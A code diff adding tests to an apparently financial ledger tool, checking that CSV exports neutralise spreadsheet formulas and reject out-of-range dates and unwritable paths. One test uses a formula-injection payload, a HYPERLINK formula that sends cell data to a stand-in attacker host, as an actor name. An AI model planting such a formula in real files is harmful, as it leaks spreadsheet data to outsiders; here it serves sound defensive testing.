@@ -433,3 +433,50 @@ def test_sydney_statements_chain_and_mark_each_day_at_its_own_close(
     assert pos["market_price"] == "40"
     assert Decimal(thursday["closing_nav"]) - Decimal(thursday["closing_cash"]) == 4000
     assert Decimal(friday["closing_nav"]) - Decimal(friday["closing_cash"]) == 4500
+
+
+def test_export_cells_a_spreadsheet_would_run_are_written_as_text(
+    tieout: Tieout, tmp_path: Path
+) -> None:
+    """A venue's reject text and an actor's name come from outside: a CSV cell starting with
+    =, +, -, @ (or a tab) was written verbatim, and a spreadsheet ran it as a formula. Written
+    with a leading apostrophe; numbers (a negative amount) and Parquet are left as they are."""
+    t = tieout.at("2026-11-03T16:00:00Z")
+    t.ok("instrument", "add", "AAPL", "--exchange", "XNYS", "--currency", "USD")
+    t.ok("account", "open", "A1", "--currency", "USD", "--type", "margin")
+    evil = Tieout(t.db_url, '=HYPERLINK("http://evil.example/?"&A1,"click")').at(
+        "2026-11-03T16:00:00Z"
+    )
+    rows = "E1,A1,AAPL,buy,3,190.25,2026-11-03,ACME\nE2,A1,AAPL,sell,5,191,2026-11-03,ACME\n"
+    evil.ok("exec", "import", write(
+        tmp_path / "e.csv", "exec_id,account,symbol,side,quantity,price,trade_date,venue\n" + rows
+    ))  # fmt: skip
+    out = tmp_path / "trades.csv"
+    t.ok("export", "trades", "--from", "2026-11-03", "--to", "2026-11-03", "--out", str(out))
+    rows = list(csv.DictReader(io.StringIO(out.read_text())))
+    assert {r["actor"] for r in rows} == {"'" + evil.actor}
+    assert [r["quantity"] for r in rows] == ["3", "5"]
+    pq = tmp_path / "trades.parquet"
+    t.ok("export", "trades", "--from", "2026-11-03", "--to", "2026-11-03", "--format",
+         "parquet", "--out", str(pq))  # fmt: skip
+    assert set(pl.read_parquet(pq)["actor"].to_list()) == {evil.actor}
+    audit_csv = tmp_path / "audit.csv"
+    t.ok("export", "audit", "--from", "2026-11-03", "--to", "2026-11-03", "--out", str(audit_csv))
+    actors = {r["actor"] for r in csv.DictReader(io.StringIO(audit_csv.read_text()))}
+    assert "'" + evil.actor in actors and evil.actor not in actors
+
+
+def test_export_dates_and_paths_out_of_reach_are_bad_input(tieout: Tieout, tmp_path: Path) -> None:
+    t = tieout.at("2026-11-03T16:00:00Z")
+    r = t("export", "trades", "--from", "2026-01-01", "--to", "9999-12-31", "--out",
+          str(tmp_path / "t.csv"))  # fmt: skip
+    assert r.code == 3 and "out of range" in r.err and "9998-12-31" in r.err
+    r = t("export", "trades", "--from", "0001-01-01", "--to", "2026-01-01", "--out",
+          str(tmp_path / "t.csv"))  # fmt: skip
+    assert r.code == 3 and "out of range" in r.err
+    afile = write(tmp_path / "afile.csv", "x\n")
+    r = t("export", "orders", "--from", "2026-01-01", "--to", "2026-01-02", "--out",
+          str(Path(afile) / "x.csv"))  # fmt: skip
+    assert r.code == 3 and "cannot be written" in r.err, r.err
+    r = t("backup", "create", "--out", str(Path(afile) / "b.tar"))
+    assert r.code == 3 and "cannot be written" in r.err, r.err
